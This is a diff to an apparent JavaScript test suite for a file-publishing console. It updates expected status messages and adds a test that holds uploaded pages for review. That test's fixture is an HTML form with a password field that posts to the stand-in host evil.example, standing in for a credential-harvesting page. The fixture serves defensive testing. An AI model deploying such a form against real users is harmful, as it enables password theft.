@@ -65,10 +65,21 @@ describe('a file published from the console', () => {
     expect((await visit(link)).html).toContain('type="password"');
   });
 
+  it('is not said to be published while it is held', async () => {
+    const form = fileForm({
+      name: 'pay.html',
+      bytes: '<form action="https://evil.example/"><input type="password"></form>',
+    });
+    const { page } = await publish(await newBrowser(), form);
+    expect(page).toContain('This page is held for review');
+    expect(page).not.toContain('Published. Copy the link');
+  });
+
   it('is said to be on its way while it is converted', async () => {
     const form = fileForm({ name: 'plan.docx', bytes: makeDocx('Harbour') });
     const { page, path } = await publish(await newBrowser(), form);
-    expect(page).toContain('The link works once the file is converted');
+    expect(page).toContain('The file is being converted, which takes a minute or two.');
+    expect(page).not.toContain('Copy the link and send it on');
     expect(path).toMatch(/^\/documents\/[\w-]{36}\/$/);
   });
 
@@ -87,6 +98,7 @@ describe('a file published from the console', () => {
     expect(page).toContain('value="Kept &quot;title&quot;"');
     expect(page).toContain('<details class="publish" open="">');
     expect(page).not.toContain('not kept');
+    expect(page).toContain('Enter the password again too.');
     expect(await countBlobs(service.dir)).toBe(blobs);
   });
 
